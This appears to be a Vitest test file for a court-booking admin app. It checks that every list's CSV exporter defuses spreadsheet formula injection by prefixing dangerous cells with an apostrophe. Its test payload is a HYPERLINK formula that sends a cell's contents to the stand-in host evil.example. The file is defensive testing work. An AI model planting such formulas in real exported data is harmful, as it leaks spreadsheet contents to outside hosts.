/// <reference types="vite/client" />
import { everyDay } from '@courtside/domain';
import { afterEach, describe, expect, test, vi } from 'vitest';
import type { BookingRecord } from './bookings/types.ts';
import type { ClosureRecord } from './closures/types.ts';
import type { EmailRecord } from './emails/types.ts';
import type { FacilityRecord } from './facilities/types.ts';
import type { MessageRecord } from './messages/types.ts';
import type { PaymentRecord } from './payments/types.ts';
import type { PromoCodeRecord } from './promo-codes/types.ts';
import type { CreditPackRecord } from './credit-packs/types.ts';
import type { ReviewRecord } from './reviews/types.ts';
import type { SeriesRecord } from './series/types.ts';
import type { TierRecord } from './tiers/types.ts';
import type { UserRecord } from './users/types.ts';
import type { AuditRecord } from './audit/types.ts';
import type { WaitlistRecord } from './waitlist/types.ts';
import type { DeviceRecord } from './devices/types.ts';
import type { WebhookRecord } from './webhooks/types.ts';
import { exporters, type ExportedResource } from './exports.ts';

/** What a spreadsheet runs as a formula when a cell starts with it. */
const PREFIXES = ['=', '+', '-', '@', '\t', '\r'] as const;
const payload = (prefix: string) => `${prefix}HYPERLINK("http://evil.example/?"&A1,"Click")`;

/**
 * One record of each resource with every free-text field (names, emails, subjects, ...) set to
 * `text` (`as`: the wire shapes grow fields these columns need not read).
 */
const recordsWith = (text: string) => ({
  users: { id: 'u1', _id: 'u1', name: text, email: text, phone: text, address: text, photoUrl: text, role: 'user' } as UserRecord,
  messages: { id: 'm1', name: text, email: text, subject: text, message: text, createdAt: '2026-05-01T10:00:00.000Z' } as MessageRecord,
  facilities: {
    id: 'f1', _id: 'f1', name: text, location: text, description: text, imageUrl: text, pricePerHour: 20, isDeleted: false,
    timezone: 'America/New_York', openingHours: everyDay(), slotMinutes: 60, maxBookingMinutes: 240,
  } as FacilityRecord,
  bookings: {
    id: 'b1', _id: 'b1', facility: { _id: 'f1', name: text, location: text, pricePerHour: 20, timezone: 'America/New_York' }, user: { _id: 'u1', name: text, email: text },
    date: '2026-05-02', startTime: '10:00', endTime: '11:00', payableAmount: 20, status: 'confirmed', paymentStatus: 'paid',
    holdExpiresAt: null, createdAt: '2026-05-01T10:00:00.000Z', refundedAmount: 0, refundState: 'none',
  } as BookingRecord,
  emails: {
    id: 'e1', kind: 'contact_notice', recipient: text, subject: text, state: 'failed', attempts: 3, lastError: text,
    createdAt: '2026-05-01T10:00:00.000Z', sentAt: null, text, html: `<p>${text}</p>`, attachments: [{ filename: text, contentType: 'text/calendar', content: text }],
  } as EmailRecord,
  payments: {
    id: 'p1', kind: 'full', user: { id: 'u1', name: text, email: text }, provider: 'sandbox', status: 'paid', amount: 20, discount: 0, promoCode: null, description: null, takenByName: null, paymentMethod: null, refundedAmount: 0, refundState: 'none',
    flagReason: text, flagResolvedAt: null, flagResolvedBy: { id: 'u2', name: text }, providerRef: text, createdAt: '2026-05-01T10:00:00.000Z', paidAt: null,
    bookings: [{ id: 'b1', facilityName: text, date: '2026-05-02', startTime: '10:00', endTime: '11:00', payableAmount: 20, charged: 20, status: 'confirmed', paymentStatus: 'paid' }],
    refunds: [],
  } as PaymentRecord,
  closures: {
    id: 'c1', kind: 'maintenance', reason: text, start: '2026-05-02T08:00', end: '2026-05-02T12:00', facilityIds: ['f1'],
    facilities: [{ id: 'f1', name: text, timezone: 'America/New_York', startsAt: '2026-05-02T12:00:00.000Z', endsAt: '2026-05-02T16:00:00.000Z' }],
    createdAt: '2026-05-01T10:00:00.000Z', updatedAt: '2026-05-01T10:00:00.000Z',
  } as ClosureRecord,
  series: {
    id: 's1', facilityId: 'f1', facilityName: text, customer: { id: 'u1', name: text, email: text }, firstDate: '2026-05-05', lastDate: '2026-05-26',
    startTime: '18:00', endTime: '19:00', every: 1, note: text, createdAt: '2026-05-01T10:00:00.000Z', occurrences: [], upcoming: 4,
  } as SeriesRecord,
  tiers: {
    id: 't1', name: text, discountPercent: 10, facilityPrices: null, customers: 3, createdAt: '2026-05-01T10:00:00.000Z', updatedAt: '2026-05-01T10:00:00.000Z',
  } as TierRecord,
  'promo-codes': {
    id: 'c1', code: text, percentOff: 10, amountOff: null, validFrom: '2026-05-01', validTo: null, facilityIds: ['f1'], minAmount: null, maxUses: 5,
    maxUsesPerCustomer: null, uses: 2, createdAt: '2026-05-01T10:00:00.000Z', updatedAt: '2026-05-01T10:00:00.000Z',
  } as PromoCodeRecord,
  'credit-packs': {
    id: 'k1', name: text, price: 100, credit: 110, bonus: 10, bonusExpiresDays: 180, active: true, createdAt: '2026-05-01T10:00:00.000Z', updatedAt: '2026-05-01T10:00:00.000Z',
  } as CreditPackRecord,
  reviews: {
    id: 'r1', bookingId: 'b1', facilityId: 'f1', facilityName: text, customerId: 'u1', customerName: text, customerEmail: 'ada@example.com', rating: 4, comment: text,
    createdAt: '2026-05-01T10:00:00.000Z', hidden: true, hiddenAt: '2026-05-02T10:00:00.000Z', hiddenReason: text, hiddenByName: text,
  } as ReviewRecord,
  audit: {
    id: 'a1', at: '2026-05-01T10:00:00.000Z', actorId: 'u2', actorName: text, action: 'refund', subjectType: 'order', subjectId: 'p1', summary: text,
  } as AuditRecord,
  waitlist: {
    id: 'w1', kind: 'slot', status: 'waiting', position: 1, sport: 'tennis', facility: { id: 'f1', name: text }, date: '2026-05-02', startTime: '10:00', endTime: '11:00',
    minutes: 60, joinedAt: '2026-05-01T10:00:00.000Z', offer: null, customer: { id: 'u1', name: text, email: text, phone: text }, removedBy: text,
  } as WaitlistRecord,
  devices: { id: 'd1', name: text, facilityIds: ['f1'], createdAt: '2026-05-01T10:00:00.000Z', lastSeenAt: null, revokedAt: null } as DeviceRecord,
  webhooks: {
    id: 'h1', url: text, description: text, events: ['booking.confirmed'], disabled: false, disabledAt: null, previousSecretUntil: null,
    createdAt: '2026-05-01T10:00:00.000Z', updatedAt: '2026-05-01T10:00:00.000Z', pending: 0, delivered: 2, failed: 1,
  } as WebhookRecord,
});

/** Resources whose records have fewer than two free-text fields (a tier and a device have only their names). */
const TEXT_FIELDS: Partial<Record<ExportedResource, number>> = { tiers: 1, 'promo-codes': 1, 'credit-packs': 1, devices: 1 };

/**
 * Runs a list's real exporter and answers the file it downloads: react-admin's downloadCSV
 * makes a Blob and clicks a hidden link, so the test gives it a document that keeps both.
 */
async function download(resource: ExportedResource, records: unknown[]): Promise<{ filename: string; header: string; rows: string[] }> {
  let blob: Blob | undefined;
  const attrs: Record<string, string> = {};
  const link = { style: {}, setAttribute: (k: string, v: string) => void (attrs[k] = v), click: () => {} };
  vi.stubGlobal('document', { createElement: () => link, body: { appendChild: () => {} } });
  vi.stubGlobal('window', { navigator: {} });
  vi.spyOn(URL, 'createObjectURL').mockImplementation((b) => {
    blob = b as Blob;
    return 'blob:test';
  });
  (exporters[resource] as (r: unknown[]) => void)(records);
  if (!blob) throw new Error(`${resource}: the exporter downloaded nothing`);
  const [header, ...rows] = (await blob.text()).split('\n');
  return { filename: attrs.download ?? '', header: header!, rows };
}

/** The cells of one CSV line in which every cell is quoted, as ours are. */
const cells = (line: string) => [...line.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1]!.replace(/""/g, '"'));

afterEach(() => {
  vi.unstubAllGlobals();
  vi.restoreAllMocks();
});

describe('every list exports through the neutralising CSV writer', () => {
  for (const resource of Object.keys(exporters) as ExportedResource[]) {
    test(`${resource}: text starting with = + - @ tab or CR gets an apostrophe, nothing else changes`, async () => {
      for (const prefix of PREFIXES) {
        const text = payload(prefix);
        const { filename, header, rows } = await download(resource, [recordsWith(text)[resource]]);
        expect(filename).toBe(`${resource}.csv`);
        expect(header).toMatch(/^id,/);
        expect(rows).toHaveLength(1);
        const row = cells(rows[0]!);
        expect(row).toHaveLength(header.split(',').length);
        // No cell a spreadsheet would run; the free-text cells are the text behind an apostrophe.
        for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
        const neutralised = row.filter((c) => c === `'${text}`);
        expect(neutralised.length, `${resource} ${JSON.stringify(prefix)}: ${JSON.stringify(row)}`).toBeGreaterThanOrEqual(TEXT_FIELDS[resource] ?? 2);
        // The same text without the formula start is written as it is, in as many cells.
        const plain = cells((await download(resource, [recordsWith(text.slice(1))[resource]])).rows[0]!);
        expect(plain.filter((c) => c === text.slice(1))).toHaveLength(neutralised.length);
      }
    });
  }

  test('numbers are data, not formulas: a negative amount stays a number', async () => {
    const { rows } = await download('facilities', [{ ...recordsWith('Court 1').facilities, pricePerHour: -20 }]);
    expect(cells(rows[0]!)).toContain('-20');
  });

  test('every list in the back office takes its exporter from `exporters`', () => {
    // The sources as text (Vite's glob import; the back office reads no files itself).
    const app = import.meta.glob<string>('./App.tsx', { query: '?raw', import: 'default', eager: true })['./App.tsx']!;
    const lists = import.meta.glob<string>('./*/*List.tsx', { query: '?raw', import: 'default', eager: true });
    const resources = [...app.matchAll(/<Resource name="([\w-]+)"/g)].map((m) => m[1]!);
    expect(resources.sort()).toEqual(Object.keys(exporters).sort());
    for (const resource of resources) {
      const files = Object.keys(lists).filter((path) => path.startsWith(`./${resource}/`));
      expect(files, resource).not.toEqual([]);
      const exporter = /^\w+$/.test(resource) ? `exporters.${resource}` : `exporters['${resource}']`;
      for (const file of files) expect(lists[file], file).toContain(`exporter={${exporter}}`);
    }
  });
});
